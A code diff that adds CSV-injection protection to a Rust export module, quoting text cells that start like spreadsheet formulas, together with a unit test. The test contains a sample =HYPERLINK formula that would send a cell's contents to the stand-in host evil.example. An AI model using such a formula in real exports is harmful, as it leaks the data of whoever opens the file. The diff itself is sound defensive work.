@@ -175,17 +175,42 @@ fn figure_table(
     std::iter::once(header).chain(rows).collect()
 }
 
-/// UTF-8 with BOM so spreadsheets open Japanese right; LF line ends.
+/// UTF-8 with BOM so spreadsheets open Japanese right; LF line ends; every
+/// cell [`spreadsheet_safe`].
 fn csv_bytes(rows: &[Vec<String>]) -> Vec<u8> {
     let mut writer = csv::WriterBuilder::new()
         .terminator(csv::Terminator::Any(b'\n'))
         .from_writer(b"\xEF\xBB\xBF".to_vec());
     for row in rows {
+        for cell in row {
+            writer
+                .write_field(spreadsheet_safe(cell).as_bytes())
+                .expect("writing to memory cannot fail");
+        }
         writer
-            .write_record(row)
+            .write_record(None::<&[u8]>)
             .expect("writing to memory cannot fail");
     }
     writer.into_inner().expect("writing to memory cannot fail")
+}
+
+/// Whether a text cell starts the way a spreadsheet starts a formula
+/// (OWASP's list for CSV injection: `=`, `+`, `-`, `@`, tab, carriage
+/// return): `=HYPERLINK(...)` in an office name would run when a citizen
+/// opens the download. Numbers (`-1.5`) are not text.
+pub fn starts_like_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
+}
+
+/// A text cell that starts like a formula gets a leading `'`, which
+/// spreadsheets take as "this is text" and do not display; every other cell
+/// is written as it is.
+fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if starts_like_formula(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
 }
 
 #[derive(Serialize)]
@@ -221,4 +246,29 @@ fn json_bytes(as_of: &str, areas: &[(&str, &str, Counts)]) -> Vec<u8> {
     let mut bytes = serde_json::to_vec_pretty(&rows).expect("plain data serializes");
     bytes.push(b'\n');
     bytes
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_are_quoted_and_numbers_kept() {
+        let rows = vec![
+            vec!["name".to_string(), "rate".to_string()],
+            vec![
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_string(),
+                "10.5".to_string(),
+            ],
+            vec!["+81 97".to_string(), "-1.5".to_string()],
+            vec!["-".to_string(), String::new()],
+            vec!["@SUM(A1)".to_string(), "\tx".to_string()],
+            vec!["\rx".to_string(), "大分=市".to_string()],
+        ];
+        let text = String::from_utf8(csv_bytes(&rows)).unwrap();
+        assert_eq!(
+            text,
+            "\u{feff}name,rate\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",10.5\n'+81 97,-1.5\n'-,\n'@SUM(A1),'\tx\n\"'\rx\",大分=市\n"
+        );
+    }
 }
